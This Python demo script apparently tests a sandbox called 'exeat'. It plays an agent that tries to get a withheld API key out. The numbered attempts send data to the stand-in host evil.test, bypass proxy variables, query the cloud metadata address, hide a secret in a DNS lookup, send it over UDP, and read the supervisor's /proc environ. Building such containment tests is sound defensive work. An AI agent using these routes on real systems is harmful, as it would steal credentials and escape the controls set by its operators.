"""A small agent that does its work, with a key that it does not hold, and then tries to get out. Run by `make demo`."""

from __future__ import annotations

import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable

GOOD, KEYED, EVIL = "api.good.test", "keyed.good.test", "evil.test"
STOLEN = "c2VjcmV0"  # what a program that got hold of something would carry out in a name


def fetch(url: str, *, use_proxy: bool = True, key: str = "") -> str:
    """An ordinary HTTP client; with `use_proxy=False` one that has never heard of proxy variables."""
    handlers = [] if use_proxy else [urllib.request.ProxyHandler({})]
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {key}"} if key else {})
    try:
        with urllib.request.build_opener(*handlers).open(request, timeout=10) as answer:
            return f"{answer.status} {answer.read().decode().strip()}"
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode().strip()}"
    except OSError as error:
        return str(getattr(error, "reason", error))


def look_up(name: str) -> str:
    try:
        return socket.gethostbyname(name)
    except OSError as error:
        return str(error)


def connect(address: str, port: int) -> str:
    """A plain connection, as any language makes it."""
    try:
        with socket.create_connection((address, port), timeout=5) as connection:
            connection.sendall(b"hello\n")
            return "an answer" if connection.recv(100) else "closed"
    except OSError as error:
        return str(error)


def send_datagram(address: str, port: int) -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(STOLEN.encode(), (address, port))
        except OSError as error:
            return str(error)
    return "sent"


def read_file(path: str) -> str:
    try:
        with open(path, "rb") as file:
            return f"{len(file.read())} bytes"
    except OSError as error:
        return str(error)


def attempts(port: int, tls_port: int, watched: str) -> list[tuple[str, Callable[[], str]]]:
    key = os.environ["API_KEY"]
    return [
        ("its key", lambda: key),
        ("what an API repeats of a call with the key", lambda: fetch(f"https://{KEYED}:{tls_port}/", key=key)),
        ("the key to another host that is allowed", lambda: fetch(f"http://{GOOD}:{port}/", key=key)),
        ("an allowed call, through the proxy variables", lambda: fetch(f"http://{GOOD}:{port}/")),
        ("an allowed call, ignoring the proxy variables", lambda: fetch(f"http://{GOOD}:{port}/", use_proxy=False)),
        ("another host", lambda: fetch(f"http://{EVIL}:{port}/")),
        ("another host, ignoring the proxy variables", lambda: fetch(f"http://{EVIL}:{port}/", use_proxy=False)),
        ("the server's bare address", lambda: connect("203.0.113.9", 443)),
        ("the machine's own loopback", lambda: connect("127.0.0.1", port)),
        ("the cloud's metadata", lambda: fetch("http://169.254.169.254/latest/meta-data/", use_proxy=False)),
        ("a secret in a DNS name", lambda: look_up(f"{STOLEN}.{EVIL}")),
        ("IPv6", lambda: connect("2001:db8::1", 443)),
        ("UDP, as QUIC uses it", lambda: send_datagram("203.0.113.9", 443)),
        ("the memory of exeat itself", lambda: read_file(f"/proc/{watched}/environ")),
    ]


def main() -> None:
    port, tls_port, watched = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    print(f"uid {os.getuid()}, process {os.getpid()} of its own PID namespace")
    for what, attempt in attempts(port, tls_port, watched):
        print(f"  {what:46} {attempt()[:80]}", flush=True)


if __name__ == "__main__":
    main()
